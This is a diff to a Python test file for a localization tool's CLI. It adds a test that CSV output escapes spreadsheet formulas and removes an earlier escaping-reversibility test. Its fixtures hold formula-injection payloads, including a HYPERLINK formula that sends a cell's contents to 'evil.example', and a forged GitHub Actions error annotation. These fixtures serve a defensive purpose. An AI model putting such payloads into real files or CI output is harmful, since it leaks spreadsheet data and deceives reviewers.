@@ -12,6 +12,7 @@ from click.testing import CliRunner
 
 from localize.cli import main
 from localize.glossary import load_glossary
+from localize.io.readers import read_records
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点我")',
@@ -22,8 +23,6 @@ FORMULAS = [
     "'=already quoted",
     "''=twice",
 ]
-# Terms cannot start with white space; these are checked by the round trip below only.
-BLANK_STARTS = ["\t=1+1", "\r=1+1"]
 
 
 def cells(text: str) -> list[str]:
@@ -55,6 +54,23 @@ def test_glossary_export_escapes_formulas_and_import_reads_them_back(
     }
 
 
+def test_run_csv_output_escapes_posts_and_check_reads_them_back(
+    runner: CliRunner, tmp_path: Path
+) -> None:
+    src = tmp_path / "in.jsonl"
+    src.write_text(
+        "".join(json.dumps({"id": f"p{i}", "text": f}) + "\n" for i, f in enumerate(FORMULAS)),
+        "utf-8",
+    )
+    out = tmp_path / "o.csv"
+    tw = "weibo-zh-tw"
+    result = runner.invoke(main, ["run", tw, str(src), "-o", str(out)])
+    assert result.exit_code in (0, 1), result.output
+    assert not [c for c in cells(out.read_text("utf-8")) if c[:1] in ("=", "+", "-", "@")]
+    texts = [r.text for r in read_records([str(out)])]  # what `localize check o.csv` reads
+    assert texts == FORMULAS
+
+
 def test_glossary_suggest_escapes_what_anyone_can_post(runner: CliRunner, tmp_path: Path) -> None:
     corpus = tmp_path / "posts.jsonl"
     post = '=HYPERLINK("http://evil.example") 枫叶之国的新词汇 枫叶之国的新词汇'
@@ -67,16 +83,6 @@ def test_glossary_suggest_escapes_what_anyone_can_post(runner: CliRunner, tmp_pa
     written = cells(out.read_text("utf-8"))
     assert any(c.startswith("'=[HYPERLINK]") for c in written)
     assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]
-
-
-@pytest.mark.parametrize(
-    "text", [*FORMULAS, *BLANK_STARTS, "", "'", "plain", "'plain", "-", "中=文"]
-)
-def test_escaping_is_reversible(text: str) -> None:
-    from localize.glossary.csv_format import escape_formula, unescape_formula
-
-    assert unescape_formula(escape_formula(text)) == text
-    assert escape_formula(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
 
 
 FORGED = "ok\n::error file=.github/workflows/ci.yml,line=1::pwned\nsrc.jsonl:9: x: [fake] error"
